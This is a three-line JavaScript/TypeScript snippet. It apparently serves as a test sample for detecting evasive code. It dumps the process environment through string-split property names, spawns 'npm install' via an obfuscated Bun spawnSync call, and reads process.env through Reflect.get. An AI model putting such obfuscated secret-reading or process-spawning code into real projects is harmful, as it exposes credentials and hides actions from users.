JSON.stringify((process as any)?.["e" + `nv`]!);
globalThis.Bun["spawn"+"Sync"]?.(["npm", `install`]);
Reflect.get(process, "env");
